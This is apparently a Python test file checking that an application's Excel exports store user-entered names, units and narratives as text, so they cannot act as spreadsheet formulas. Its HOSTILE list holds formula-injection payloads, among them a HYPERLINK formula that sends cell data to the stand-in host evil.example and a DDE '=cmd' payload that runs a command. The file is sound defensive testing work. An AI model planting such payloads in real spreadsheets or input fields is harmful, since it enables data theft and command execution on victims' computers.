"""No export turns user text into a formula (issue 14, OWASP CSV injection): names, units and
narratives starting with = + - @ tab or CR are text cells, shown exactly as entered."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from bot.models import Enterprise, RegistrationEntry, YearEndReport
from bot.services.access import Scope
from bot.services.acts import Act
from bot.services.exports import export_missing, export_registrations, export_reports
from tests.bot.services.test_exports import NOW, TZ
from tests.bot.services.test_progress import FIGURES, TITLES, build_world
from tests.sheets import active

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _poison(session: Session) -> None:
    """Enterprise names (as from an imported CSV), nominees, units and narratives."""
    for index, enterprise in enumerate(session.exec(select(Enterprise)).all()):
        enterprise.name = HOSTILE[index % len(HOSTILE)] + f" #{index}"
    for index, entry in enumerate(session.exec(select(RegistrationEntry)).all()):
        entry.full_name = HOSTILE[index % len(HOSTILE)]
        entry.unit_name = HOSTILE[(index + 1) % len(HOSTILE)]
        entry.position = HOSTILE[(index + 2) % len(HOSTILE)]
    for report in session.exec(select(YearEndReport)).all():
        report.narrative = HOSTILE[0]
    session.flush()


def _assert_no_formula(path: Path) -> list[str]:
    """No <f> element in any sheet, and the texts as read back."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    texts = []
    for row in active(load_workbook(path)).iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                texts.append(cell.value)
    return texts


def _hostile_found(texts: list[str]) -> bool:
    return any(text.startswith(tuple(h[:2] for h in HOSTILE)) for text in texts)


def test_registrations_export_writes_names_as_text(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "dang-ky.xlsx"
    with Session(engine) as session:
        w = build_world(session)
        _poison(session)
        export_registrations(
            session, w.campaign, Scope.board(w.org), path, act=Act(NOW, TZ), titles=TITLES
        )
    texts = _assert_no_formula(path)
    # Shown exactly as entered (a CR reads back as LF: XML normalises line ends).
    assert len({h for h in HOSTILE if h[0] in "=+-@"} & set(texts)) >= 3


def test_reports_export_writes_names_and_narratives_as_text(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "bao-cao.xlsx"
    with Session(engine) as session:
        w = build_world(session)
        _poison(session)
        export_reports(
            session, w.campaign, Scope.board(w.org), path, act=Act(NOW, TZ), figures=FIGURES
        )
    texts = _assert_no_formula(path)
    assert HOSTILE[0] in texts  # the narratives
    assert _hostile_found(texts)


def test_missing_export_writes_names_as_text(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "chua-nop.xlsx"
    with Session(engine) as session:
        w = build_world(session)
        _poison(session)
        export_missing(
            session, w.campaign, "year_end_report", Scope.board(w.org), path, act=Act(NOW, TZ)
        )
    texts = _assert_no_formula(path)
    assert _hostile_found(texts)
